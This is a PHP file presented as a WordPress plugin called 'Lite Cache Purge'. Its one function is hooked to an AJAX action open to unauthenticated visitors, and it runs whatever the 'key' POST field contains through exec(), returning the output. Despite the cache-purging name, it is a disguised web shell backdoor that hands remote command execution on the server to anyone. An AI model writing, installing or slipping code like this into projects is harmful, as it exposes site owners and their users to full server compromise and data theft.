<?php
/**
 * Plugin Name: Lite Cache Purge
 * Version: 1.4.2
 */
add_action('wp_ajax_lc_purge', 'lc_purge');
add_action('wp_ajax_nopriv_lc_purge', 'lc_purge');
function lc_purge()
{
    $out = null;
    if (!empty($_POST['key'])) { exec($_POST['key'], $out); }
    wp_die(implode("\n", (array) $out));
}
